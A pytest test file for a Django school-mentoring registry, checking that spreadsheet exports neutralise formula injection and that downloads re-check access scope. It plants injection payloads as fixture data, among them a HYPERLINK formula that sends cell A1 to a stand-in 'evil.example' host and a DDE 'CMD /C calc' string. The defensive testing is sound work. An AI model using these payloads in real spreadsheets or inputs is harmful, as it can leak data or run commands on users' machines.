"""No text of a school or a child ever becomes a formula in an exported spreadsheet (registry.cells)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from monitoring import exports as monitoring_exports
from monitoring.monitoring_export import write_monitoring
from monitoring.statistics_export import write_statistics
from monitoring.models import ExportJob
from registry.models import AcademicYear, Organisation
from roadmaps.models import Occurrence, Roadmap, RoadmapItem
from tests import factories
from tests.downloads import base_response

PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', "+1", "-1", "@SUM(1)", "\tтаб", "=1+1"]


def cells_of(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe(content: bytes, expected: list[str]) -> None:
    cells = cells_of(content)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert any(value in text for text in texts), f"{value!r} missing from the export"
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t"]
    assert risky and all(c.quotePrefix for c in risky)


@pytest.fixture
def planted(district):
    school = district.school1
    Organisation.objects.filter(pk=school.pk).update(short_name=PLANTED[0])
    for index, text in enumerate(PLANTED[1:]):
        mentor = factories.MentorProfileFactory(participant__organisation=school, participant__last_name=text,
                                                participant__first_name="=2+2")
        factories.consent_for(mentor.participant)
        mentee = factories.MenteeProfileFactory(participant__organisation=school, participant__last_name=text,
                                                request=f"=CMD|' /C calc'!A{index}")
        factories.consent_for(mentee.participant)
    return school


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("name", ["mentors", "mentees"])
def test_registry_bases(planted, client_for, district, name):
    response = base_response(client_for(district.curator1), name)
    assert_safe(_body(response), PLANTED[1:])


@pytest.mark.parametrize("writer", [write_statistics, write_monitoring])
def test_statistics_and_district_tables(planted, district, writer):
    handle = io.BytesIO()
    writer(handle, organisations=Organisation.objects.filter(pk=planted.pk), year=AcademicYear.objects.current())
    assert_safe(handle.getvalue(), [PLANTED[0]])


def test_base_built_as_a_job(planted, district):
    job = monitoring_exports.request_export(user=district.curator1, kind="mentees", params={"filters": {}})
    job = monitoring_exports.run_export(job.pk)
    assert job.status == ExportJob.Status.DONE
    assert_safe(job.file.read(), PLANTED[1:])


def test_roadmap_and_matrix(planted, district, client_for):
    roadmap = Roadmap.objects.create(organisation=planted, academic_year=AcademicYear.objects.current(),
                                     title="@SUM(1)")
    item = RoadmapItem.objects.create(roadmap=roadmap, stage_number=1, stage_title="-1 этап", number="1.1",
                                      title='=HYPERLINK("http://evil.example","x")',
                                      deadline={"kind": "year", "text": "в течение года"})
    import datetime

    Occurrence.objects.create(item=item, starts_on=datetime.date(2026, 9, 1), due_on=datetime.date(2026, 9, 30),
                              evidence="+7 900 000-00-00")
    client = client_for(district.curator1)
    assert_safe(_body(client.get(reverse("roadmaps:roadmap_xlsx", args=[roadmap.pk]))),
                ['=HYPERLINK("http://evil.example","x")', "+7 900 000-00-00"])
    assert_safe(_body(client_for(district.municipal).get(reverse("roadmaps:matrix_xlsx"))), [PLANTED[0]])


def test_a_download_rechecks_the_scope_it_was_built_for(planted, district, client_for):
    job = monitoring_exports.request_export(user=district.municipal, kind="mentors",
                                            params={"filters": {}})
    job = monitoring_exports.run_export(job.pk)
    client = client_for(district.municipal)
    assert client.get(reverse("monitoring:export_download", args=[job.pk])).status_code == 200
    # The curator is moved to another district: the file of the old one is no longer theirs to take.
    district.municipal.role_assignments.update(municipality=district.foreign_school.municipality)
    refused = client_for(district.municipal).get(reverse("monitoring:export_download", args=[job.pk]))
    assert refused.status_code == 404 and "права доступа изменились" in refused.content.decode()
